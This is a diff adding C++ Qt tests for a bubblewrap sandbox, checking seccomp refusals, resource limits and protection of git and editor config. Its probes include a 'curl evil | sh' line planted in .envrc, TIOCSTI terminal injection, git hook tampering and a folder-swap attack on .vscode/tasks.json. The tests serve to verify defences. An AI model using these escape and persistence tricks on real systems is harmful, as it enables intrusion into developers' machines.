@@ -8,6 +8,7 @@
 #include <QTemporaryDir>
 #include <QtTest>
 
+#include <functional>
 #include <thread>
 
 using namespace tandem;
@@ -69,7 +70,22 @@ private slots:
     void processCountIsCapped();
     void commandLineHoldsNoSecret();
 
+    void staysWarmBetweenCommands();
+    void missingProgramIsAnError();
+    void refusedSystemCalls_data();
+    void refusedSystemCalls();
+    void memoryHogIsReportedAsMemory();
+    void cpuBurnerIsStoppedAtTheCpuLimit();
+    void oversizedFileIsStoppedAtTheDiskLimit();
+    void tmpIsCappedBySize();
+    void gitHooksAndConfigAreMasked();
+    void createdDeniedPathsAreRemoved();
+    void replacedDeniedPathsAreRestored();
+    void stopKillsEverything();
+
 private:
+    sandbox::SandboxPolicy policyWith(const std::function<void(sandbox::ResourceLimits &)> &edit);
+
     std::unique_ptr<QTemporaryDir> m_home;
     std::unique_ptr<QTemporaryDir> m_workspace;
     std::unique_ptr<sandbox::BubblewrapSandbox> m_sandbox;
@@ -320,6 +336,239 @@ void tst_BubblewrapSandbox::commandLineHoldsNoSecret()
     QVERIFY(!line.contains(QStringLiteral("TESTCANARY")));
     QVERIFY(line.contains(QStringLiteral("--clearenv")));
     QVERIFY(line.contains(QStringLiteral("--unshare-all")));
+}
+
+sandbox::SandboxPolicy
+tst_BubblewrapSandbox::policyWith(const std::function<void(sandbox::ResourceLimits &)> &edit)
+{
+    sandbox::SandboxPolicy policy;
+    policy.workspace = m_workspace->path();
+    edit(policy.limits);
+    return policy;
+}
+
+void tst_BubblewrapSandbox::staysWarmBetweenCommands()
+{
+    // One sandbox for the session: what one command leaves in /tmp the next one sees, and the
+    // supervisor that started both is the same process.
+    auto first = m_sandbox->exec(shell(QStringLiteral("echo kept > /tmp/note; cat /proc/1/stat "
+                                                      "| cut -d' ' -f22")),
+                                 {});
+    auto second = m_sandbox->exec(shell(QStringLiteral("cat /tmp/note; cat /proc/1/stat | cut "
+                                                       "-d' ' -f22")),
+                                  {});
+    QVERIFY(first && second);
+    const QList<QByteArray> lines = second->stdoutData.split('\n');
+    QCOMPARE(lines.value(0), QByteArray("kept"));
+    QCOMPARE(lines.value(1), first->stdoutData.trimmed());
+}
+
+void tst_BubblewrapSandbox::missingProgramIsAnError()
+{
+    sandbox::ExecRequest request;
+    request.argv = {QStringLiteral("no-such-program-here")};
+    auto result = m_sandbox->exec(request, {});
+    QVERIFY(result.has_value());
+    QCOMPARE(result->exitCode, 127);
+    QVERIFY2(result->stderrData.contains("No such file"), result->stderrData);
+}
+
+void tst_BubblewrapSandbox::refusedSystemCalls_data()
+{
+    QTest::addColumn<QString>("probe");
+    // The terminal probes first make the pty their controlling terminal (the command leads its
+    // own session), where TIOCSTI works without privileges unless the filter refuses it.
+    const QString prelude = QStringLiteral("import ctypes, errno, fcntl, os, socket, sys\n"
+                                           "libc = ctypes.CDLL(None, use_errno=True)\n");
+    QTest::newRow("ptrace") << prelude
+                                   + QStringLiteral(
+                                       "pid = os.fork()\n"
+                                       "if pid == 0:\n    os.execvp('sleep', ['sleep', '5'])\n"
+                                       "r = libc.ptrace(16, pid, 0, 0)\n"
+                                       "os.kill(pid, 9)\n"
+                                       "print('ERRNO', ctypes.get_errno() if r != 0 else 0)\n");
+    QTest::newRow("tiocsti")
+        << prelude
+               + QStringLiteral(
+                   "import pty, termios\n"
+                   "m, s = pty.openpty()\n"
+                   "fcntl.ioctl(s, termios.TIOCSCTTY, 0)\n"
+                   "try:\n    fcntl.ioctl(s, termios.TIOCSTI, b'x'); print('ERRNO 0')\n"
+                   "except OSError as e: print('ERRNO', e.errno)\n");
+    QTest::newRow("tiocsti-high-bits")
+        << prelude
+               + QStringLiteral(
+                   "import pty, termios\n"
+                   "m, s = pty.openpty()\n"
+                   "fcntl.ioctl(s, termios.TIOCSCTTY, 0)\n"
+                   "c = ctypes.c_char(b'x')\n"
+                   "r = libc.syscall(16, s, ctypes.c_ulong(0xdead00000000 | termios.TIOCSTI), "
+                   "ctypes.byref(c))\n"
+                   "print('ERRNO', ctypes.get_errno() if r != 0 else 0)\n");
+    QTest::newRow("unshare-user") << prelude
+                                         + QStringLiteral(
+                                             "r = libc.unshare(0x10000000)\nprint('ERRNO', "
+                                             "ctypes.get_errno() if r != 0 else 0)\n");
+    QTest::newRow("mount") << prelude
+                                  + QStringLiteral(
+                                      "r = libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)\n"
+                                      "print('ERRNO', ctypes.get_errno() if r != 0 else 0)\n");
+    QTest::newRow("keyctl") << prelude
+                                   + QStringLiteral(
+                                       "r = libc.syscall(250, 0, 0, 0, 0, 0)\n"
+                                       "print('ERRNO', ctypes.get_errno() if r < 0 else 0)\n");
+    QTest::newRow("bpf") << prelude
+                                + QStringLiteral("r = libc.syscall(321, 0, 0, 0)\nprint('ERRNO', "
+                                                 "ctypes.get_errno() if r < 0 else 0)\n");
+    QTest::newRow("perf_event_open")
+        << prelude
+               + QStringLiteral("r = libc.syscall(298, 0, 0, -1, -1, 0)\n"
+                                "print('ERRNO', ctypes.get_errno() if r < 0 else 0)\n");
+    QTest::newRow("raw-socket") << prelude
+                                       + QStringLiteral(
+                                           "try:\n    socket.socket(socket.AF_INET, "
+                                           "socket.SOCK_RAW | socket.SOCK_CLOEXEC, 1)\n"
+                                           "    print('ERRNO 0')\n"
+                                           "except OSError as e: print('ERRNO', e.errno)\n");
+    QTest::newRow("packet-socket")
+        << prelude
+               + QStringLiteral("try:\n    socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0); "
+                                "print('ERRNO 0')\n"
+                                "except OSError as e: print('ERRNO', e.errno)\n");
+}
+
+void tst_BubblewrapSandbox::refusedSystemCalls()
+{
+    QFETCH(QString, probe);
+    sandbox::ExecRequest request;
+    request.argv = {QStringLiteral("python3"), QStringLiteral("-c"), probe};
+    auto result = m_sandbox->exec(request, {});
+    QVERIFY(result.has_value());
+    // EPERM from the filter; never 0 (allowed). Another refusal (EACCES, ENOSYS) would mean
+    // the filter was not what stopped it.
+    QVERIFY2(result->stdoutData.trimmed() == "ERRNO 1", result->stdoutData + result->stderrData);
+}
+
+void tst_BubblewrapSandbox::memoryHogIsReportedAsMemory()
+{
+    if (!QFileInfo(QStringLiteral("/sys/fs/cgroup/memory")).isWritable())
+        QSKIP("this machine offers no writable memory cgroup (v1)");
+    sandbox::BubblewrapSandbox box(policyWith([](auto &l) { l.memoryBytes = 256 << 20; }));
+    QVERIFY(box.start().has_value());
+
+    auto result = box.exec(shell(QStringLiteral("python3 -c \"b = b'x' * (1024 << 20); "
+                                                "print(len(b))\"")),
+                           {});
+    QVERIFY(result.has_value());
+    QCOMPARE(result->limitHit, sandbox::LimitHit::Memory);
+    QVERIFY(result->exitCode != 0);
+}
+
+void tst_BubblewrapSandbox::cpuBurnerIsStoppedAtTheCpuLimit()
+{
+    sandbox::BubblewrapSandbox box(
+        policyWith([](auto &l) { l.cpuTime = std::chrono::seconds(1); }));
+    QVERIFY(box.start().has_value());
+
+    QElapsedTimer clock;
+    clock.start();
+    // Two burners: the limit is CPU time summed over the command, not per process.
+    auto result =
+        box.exec(shell(QStringLiteral("(while :; do :; done) & while :; do :; done"), 20'000), {});
+    QVERIFY(result.has_value());
+    QCOMPARE(result->limitHit, sandbox::LimitHit::CpuTime);
+    QVERIFY2(clock.elapsed() < 5000, QByteArray::number(clock.elapsed()));
+}
+
+void tst_BubblewrapSandbox::oversizedFileIsStoppedAtTheDiskLimit()
+{
+    sandbox::BubblewrapSandbox box(policyWith([](auto &l) { l.diskBytes = 8 << 20; }));
+    QVERIFY(box.start().has_value());
+
+    auto result = box.exec(shell(QStringLiteral("dd if=/dev/zero of=big bs=1M count=64 2>&1")), {});
+    QVERIFY(result.has_value());
+    QCOMPARE(result->limitHit, sandbox::LimitHit::Disk);
+    QVERIFY(QFileInfo(m_workspace->filePath(QStringLiteral("big"))).size() <= 8 << 20);
+}
+
+void tst_BubblewrapSandbox::tmpIsCappedBySize()
+{
+    sandbox::BubblewrapSandbox box(policyWith([](auto &l) { l.diskBytes = 8 << 20; }));
+    QVERIFY(box.start().has_value());
+
+    auto result = box.exec(
+        shell(QStringLiteral("for i in 1 2 3 4; do head -c 3000000 /dev/zero > /tmp/f$i || "
+                             "exit 9; done")),
+        {});
+    QVERIFY(result.has_value());
+    QCOMPARE(result->exitCode, 9);
+    QVERIFY2(result->stderrData.contains("No space left"), result->stderrData);
+}
+
+void tst_BubblewrapSandbox::gitHooksAndConfigAreMasked()
+{
+    writeFile(m_workspace->filePath(QStringLiteral(".git/hooks/pre-commit")), "#!/bin/sh\n");
+    writeFile(m_workspace->filePath(QStringLiteral(".git/config")),
+              "[http]\n\textraheader = Authorization: Basic " + kCanary + "\n");
+    sandbox::SandboxPolicy policy;
+    policy.workspace = m_workspace->path();
+    sandbox::BubblewrapSandbox box(policy);
+    QVERIFY(box.start().has_value());
+
+    auto result = box.exec(shell(QStringLiteral("cat .git/config; ls .git/hooks; "
+                                                "echo evil > .git/hooks/post-checkout; "
+                                                "echo evil >> .git/config; true")),
+                           {});
+    QVERIFY(result.has_value());
+    QVERIFY(!result->stdoutData.contains(kCanary));
+    QVERIFY(!result->stdoutData.contains("pre-commit"));
+    QVERIFY(!QFileInfo::exists(m_workspace->filePath(QStringLiteral(".git/hooks/post-checkout"))));
+    QFile config(m_workspace->filePath(QStringLiteral(".git/config")));
+    QVERIFY(config.open(QIODevice::ReadOnly));
+    QVERIFY(!config.readAll().contains("evil"));
+}
+
+void tst_BubblewrapSandbox::createdDeniedPathsAreRemoved()
+{
+    auto result = m_sandbox->exec(
+        shell(QStringLiteral("echo 'curl evil | sh' > .envrc; mkdir -p .vscode; "
+                             "echo '{}' > .vscode/tasks.json; echo ok > notes.txt")),
+        {});
+    QVERIFY(result.has_value());
+    QVERIFY(!QFileInfo::exists(m_workspace->filePath(QStringLiteral(".envrc"))));
+    QVERIFY(!QFileInfo::exists(m_workspace->filePath(QStringLiteral(".vscode/tasks.json"))));
+    QVERIFY(QFileInfo::exists(m_workspace->filePath(QStringLiteral("notes.txt"))));
+    QVERIFY2(result->stderrData.contains("removed .envrc"), result->stderrData);
+}
+
+void tst_BubblewrapSandbox::replacedDeniedPathsAreRestored()
+{
+    writeFile(m_workspace->filePath(QStringLiteral(".vscode/tasks.json")), "{\"tasks\": []}\n");
+    sandbox::SandboxPolicy policy;
+    policy.workspace = m_workspace->path();
+    sandbox::BubblewrapSandbox box(policy);
+    QVERIFY(box.start().has_value());
+
+    // The file itself is read-only inside, so the attack moves its folder away instead.
+    auto result = box.exec(shell(QStringLiteral("echo evil > .vscode/tasks.json; "
+                                                "mv .vscode .vscode-old && mkdir .vscode && "
+                                                "echo evil > .vscode/tasks.json")),
+                           {});
+    QVERIFY(result.has_value());
+    QFile tasks(m_workspace->filePath(QStringLiteral(".vscode/tasks.json")));
+    QVERIFY(tasks.open(QIODevice::ReadOnly));
+    QCOMPARE(tasks.readAll(), QByteArray("{\"tasks\": []}\n"));
+    QVERIFY2(result->stderrData.contains("restored .vscode/tasks.json"), result->stderrData);
+}
+
+void tst_BubblewrapSandbox::stopKillsEverything()
+{
+    auto result = m_sandbox->exec(
+        shell(QStringLiteral("sleep 1234.3 </dev/null >/dev/null 2>&1 & disown; true")), {});
+    QVERIFY(result.has_value());
+    m_sandbox->stop();
+    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("sleep 1234.3")), 2000);
+    QVERIFY(!m_sandbox->exec(shell(QStringLiteral("true")), {}).has_value());
 }
 
 QTEST_GUILESS_MAIN(tst_BubblewrapSandbox)
